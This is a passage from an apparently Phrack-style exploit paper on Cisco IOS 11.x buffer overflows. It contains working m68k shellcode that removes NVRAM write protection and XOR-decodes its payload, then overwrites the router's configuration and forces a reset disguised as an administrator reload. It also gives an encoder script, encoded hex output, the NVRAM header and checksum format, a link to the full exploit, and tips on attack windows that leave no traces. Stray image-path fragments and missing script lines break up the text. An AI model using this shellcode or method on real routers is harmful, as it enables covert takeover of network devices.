pattern like 0x55 or 0xD5 to make sure that no 0x00 bytes show up. Abootstrap code will decode the main code and pass execution on to it. The
Cisco 1600 platform with it's 68360 does not have any caching issues to
worry us (thanks to LSD for pointing this out), so the only issue we have
is avoiding 0x00 bytes in the bootstrap code. Here is how it works:

--- bootstrap.s ---
    .globl _start
        | Remove write protection for NVRAM.
    | Protection is Bit 1 in BR7 for 0x0E000000
        move.l  #0x0FF010C2,%a1
        lsr     (%a1)

        | fix the brance opcode
    | 'bne decode_loop' is OP code 0x6600 and this is bad
        lea     broken_branch+0x101(%pc),%a3
        sub.a   #0x0101,%a3
        lsr     (%a3)| perform dummy load, where 0x01010101 is then replaced
        | by our stack ptr value due to the other side of the pointer
    | exchange
        move.l  #0x01010101,%d1

        | get address of the real code appended plus 0x0101 to
    | prevent 0x00 bytes
        lea     xor_code+0x0101(%pc),%a2
        sub.a   #0x0101,%a2
        | prepare the decode register (XOR pattern)
        move.w  #0xD5D5,%d1

    | Decode our main payload code and the config
        eor.w   %d1,(%a2)+
    | check for the termination flag (greetings to Bine)
        cmpi.l  #0xCAFEF00D,(%a2)
        | this used to be 'bne decode_loop' or 0x6600FFF6
        .byte   0xCC,0x01,0xFF,0xF6--- end bootstrap.s ---

You may assemble the code into an object file using:
linux# m68k-aout-as -m68360 -pic --pcrel -o bootstrap.o bootstrap.s

There are a few things to say about the code. Number one are the first two
instructions. The CPU we are dealing with supports write protection for
memory segments [4]. Information about the memory segments is stored in
so-called "Base Registers", BR0 to BR7. These are mapped into memory at
0x0FF00000 and later. The one we are interested in (BR7) is at 0x0FF010C2.
Bit0 tells the CPU if this memory is valid and Bit1 if it's write
protected, so the only thing we need to do is to shift the lower byte one
Bit to the right. The write protection Bit is cleared and the valid Bit is
still in place.

The second thing of mild interest is the broken branch code, but the
explaination in the source should make this clear: the OP code of "BNE"unfortunately is 0x6600. So we shift the whole first word one to the right
and when the code runs, this is corrected.

The third thing is the dummy move to d1. If the reader would refer back to
the place wediscussed the pointer exchange, he will notice that there is a
"back" part in this operation: namely the stack address is written to our
code plus 20bytes (or 0x14). So we use a move operation that translates to
the OP code of 0x223c01010101, located at offset 0x12 in our code. After
the pointer exchange takes place, the 0x01010101 part is replaced by the
pointer - which is then innocently moved to the d1 register and ignored.

When this code completed execution, the appended XOR'd code and config
should be in memory in all clear text/code. The only thing we have to do
now is copy the config in the NVRAM. Here is the appropriate code to do

--- config_copy.s ---
        .globl  _start

    | turn off interrupts
        move.w  #0x2700,%sr;
    move.l  #0x0FF010C2,%a1
    move.w  #0x0001,(%a1)

    | Get position of appended config and write it with delay
    lea config(%pc),%a2move.l  #0x0E0002AE,%a1
    move.l  #0x00000001,%d2

    move.b  (%a2)+,(%a1)+
    | delay loopmove.l  #0x0000FFFF,%d1
      subx  %d2,%d1
      bmi   write_delay
    cmp.l   #0xCAFEF00D,(%a2)
    bne copy_confg

    | delete old config to prevent checksum errors
    move.w  #0x0000,(%a1)+
    move.l  #0x0000FFFF,%d1
    | delay loop
      subx  %d2,%d1
      bmi   write_delay2
    cmp.l   #0x0E002000,%a1
    blt delete_confg

    |  perform HARD RESET
        move.w#0x2700,%sr
        moveal  #0x0FF00000,%a0
        moveal  (%a0),%sp
        moveal  #0x0FF00004,%a0
        moveal  (%a0),%a0
        jmp (%a0)

--- end config_copy.s ---

There is no particular magic about this part of the code. The only thing
worth noticing is the final CPU reset. There is reason why we do this. If
we just crash the router, there might be exception handlers in place to
save the call stack and other stuff to the NVRAM. This might change
checksums in an unpredictable way and we don't want to do this. The other
reason is, that a clean reset makes the router look like it was rebooted by
an administrator using the "reload" command. So we don't raise any
questions despite the completely changed configuration ;-)

The config_copy code and the config itself must now be XOR encoded with the
pattern we used in the bootstrap code. Also, you may want to put the code
into a nice char array for easy use in a C program. For this, yours truly
uses a dead simple but efficient Perl script:--- objdump2c.pl ---


while (<STDIN>) {
    if (/[0-9a-f]+:\t/) {
    $hexcode=~s/ //g;
    $hexcode=~s/([0-9a-f]{2})/$1 /g;


    @bytes=split(/ /,$hexcode);
    foreach (@bytes) {
        $_=$_^$pattern if($pattern);
    print "\t\"".$hexcode."\"".$tabs."//".$mnemonic." (0x".$alc.")\n";
--- end objdump2c.pl ---

You can use the output of objdump and pipe it into the script. If the
script got no parameter, it will produce the C char string without
modifications. The first optional paramter will be your XOR pattern and the
second one can be the address your buffer is going to reside at. This makes
debugging the code a hell of a lot easier, because you can refer to the
comment at the end of your C char string to find out which command made the
Cisco unhappy.

The output for our little config_copy.s code XOR'd with 0xD5 looks likethis (trimmed for phrack):

linux# m68k-aout-objdump -d config_copy.o |
> ./objdump2XORhex.pl 0xD5 0x020F2A24

"\x93\x29\xF2\xD5"              //movew #9984,%sr (0x020F2A24)
"\xF7\xA9\xDA\x25\xC5\x17"      //moveal #267391170,%a1 (0x020F2A28)
"\xE7\x69\xD5\xD4"              //movew #1,%a1@ (0x020F2A2E)
"\x90\x2F\xD5\x87"              //lea %pc@(62 <config>),%a2 (0x020F2A32)
"\xF7\xA9\xDB\xD5\xD7\x7B"      //moveal #234881710,%a1 (0x020F2A36)
"\xA1\xD4"                      //moveq #1,%d2 (0x020F2A3C)"\xC7\x0F"                      //moveb %a2@+,%a1@+ (0x020F2A3E)
"\xF7\xE9\xD5\xD5\x2A\x2A"      //movel #65535,%d1 (0x020F2A40)
"\x46\x97"                      //subxw %d2,%d1 (0x020F2A46)
"\xBE\xD5\x2A\x29"              //bmiw 22 <write_delay> (0x020F2A48)
"\xD9\x47\x1F\x2B\x25\xD8"      //cmpil #-889262067,%a2@ (0x020F2A4C)
"\xB3\xD5\x2A\x3F"              //bnew 1a <copy_confg> (0x020F2A52)
"\xE7\x29\xD5\xD5"              //movew #0,%a1@+ (0x020F2A56)
"\xF7\xE9\xD5\xD5\x2A\x2A"      //movel #65535,%d1 (0x020F2A5A)
"\x46\x97"                      //subxw %d2,%d1 (0x020F2A60)
"\xBE\xD5\x2A\x29"              //bmiw 3c <write_delay2> (0x020F2A62)
"\x66\x29\xDB\xD5\xF5\xD5"      //cmpal #234889216,%a1 (0x020F2A66)
"\xB8\xD5\x2A\x3D"              //bltw 32 <delete_confg> (0x020F2A6C)
"\x93\x29\xF2\xD5"              //movew #9984,%sr (0x020F2A70)
"\xF5\xA9\xDA\x25\xD5\xD5"      //moveal #267386880,%a0 (0x020F2A74)
"\xFB\x85"                      //moveal %a0@,%sp (0x020F2A7A)
"\xF5\xA9\xDA\x25\xD5\xD1"      //moveal #267386884,%a0 (0x020F2A7C)
"\xF5\x85"                      //moveal %a0@,%a0 (0x020F2A82)
"\x9B\x05"                      //jmp %a0@ (0x020F2A84)

Finally, there is only one more thing to do before we can compile this all
together: new have to create the new NVRAM header and calculate the
checksum for our new config. The NVRAM header has the form of:

typedef struct {
    u_int16_t       magic;      // 0xABCD
    u_int16_t       one;    // Probably type (1=ACII, 2=gz)
    u_int16_t       checksum;u_int16_t       IOSver;
    u_int32_t       unknown;    // 0x00000014
    u_int32_t       cfg_end;    // pointer to first free byte in
                // memory after config
    u_int32_t       size;
} nvhdr_t;

Obviously, most values inhere are self-explainory. This header is not
nearly as much tested as the memory structures, so IOS will forgive you
strange values in the cfg_end entry and such. You can choose the IOS
version, but yours truly recommends to use something along the lines of
0x0B03 (11.3), just to make sure it works. The size field covers only the
real config text - not the header.
The checksum is calculated over the whole thing (header plus config) with
the checksum field itself being set to zero. This is a standard one's
complement checksum as you find in any IP implementation.

When putting it all together, you should have something along the lines of:

 |              |
 | Bootstrap    |
 |              |
 |config_copy  |
 |   XOR pat    |
 | NVRAM header |
 | + config     |
 |   XOR pat    |

...which you can now send to the Cisco router for execution. If everything
works the way it is planned, the router will seemingly freeze for some
time, because it's working the slow loops for NVRAM copy and does not allow
interrupts, and should then reboot clean and nice.

To save space for better papers, the full code is not included here but is
available at http://www.phenoelit.de/ultimaratio/UltimaRatioVegas.c . It
supports some adjustments for code offset, NOPs where needed and a slightly
different fake block for 11.1 series IOS.

--[ 6 - Everything not covered in 1-5

A few assorted remarks that somehow did not fit into the rest of this text
should be made, so they are made here.

First of all, if you find or know an overflow vulnerability for IOS 11.x
and you think that it is not worth all the trouble to exploit since
everyone should run 12.x by now, let me challange this.Nobody with some
experience on Cisco IOS will run the latest version. It just doesn't work
correctly. Additionally, many people don't update their routers anyway. But
the most interesting part is a thing called "Helper Image" or simply "boot
IOS". This is a mini-IOS loaded right after the ROM monitor, which is
normally a 11.x. On the smaller routers, it's a ROM image and can not be
updated easily. For the bigger ones, people assured me that there are no
12.x mini-IOSes out there they would put on a major production router. Now,
when the Cisco boot up and starts the mini-IOS, it will read the config and
work accordingly as long as the feature is supported. Many are - including
the TFTP server. This gives an attacker a 3-8 seconds time window in which
he can perform an overflow on the IOS, in case somone reloads the router.
In case this goes wrong, the full-blown IOS still starts up, so there will
be no traces of any hostile activity.

The second item yours truly would like to point out are the different
things one might want to explore for overflow attacks. The obvious one
(used in this paper as example) is a service running on a Cisco router.
Another point for overflowing stuff are protocols. No protocol inspection
engine is perfect AFAYTK. So even if the IOS is just supposed to route
the packet, but has to inspect the contents for some reason, you might findsomething there. And if all fails, there are still the debug based
overflows. IOS offers a waste amount of debug commands for next to
everything. These do normally display a lot of information comming right
from the packet they received and don't always check the buffer they use
for compiling the displayed string. Unfortunately, it requires someone to
turn on debugging in the first place - but well, this might happen.And finally, some greets have to be in here. Those go to the following
people in no particular order: Gaus of Cisco PSIRT, Nico of Securite.org,
Dan ofDoxPara.com, Halvar Flake, the three anonymous CCIEs/Cisco wizards
yours truly keeps asking strange questions and of course FtR and Mr. V.H.,
because without their equipment, there wouldn't be any research to speak
of. Additional greets go to all people who research Cisco stuff and to whom
yours truly had no chance to talk to so far - please get in touch with us.
The last one goes to the vulnerability research labs out there: let me
